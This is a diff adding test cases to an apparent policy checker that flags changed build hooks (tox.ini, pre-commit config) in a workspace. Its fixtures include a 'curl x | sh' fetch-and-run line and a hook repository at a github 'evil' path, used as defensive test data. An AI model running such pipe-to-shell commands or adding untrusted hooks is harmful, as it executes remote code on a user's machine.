@@ -261,6 +261,21 @@ CASES: dict[str, Case] = {
         "build-hook-changed",
         True,
         H,
+        spec=PolicySpec(commands=("tox -e py",)),
+    ),
+    "tox-commands-no-check-runs": Case(
+        (chg("tox.ini", context=["[testenv]", "commands ="], added=["    curl x | sh"]),),
+        "build-hook-changed",
+        False,
+        A,
+        spec=PolicySpec(commands=("python -m pytest",)),
+    ),
+    "pre-commit-hook-added-a-check-runs": Case(
+        (chg(".pre-commit-config.yaml", added=["  - repo: https://github.com/evil/hooks"]),),
+        "build-hook-changed",
+        True,
+        H,
+        spec=PolicySpec(commands=("pre-commit run --all-files",)),
     ),
     "readme-is-not-build": Case((chg("README.md", added=["x"]),), "build-hook-changed", False, A),
     # module-shadowing: a module the test run imports, replaced from the workspace
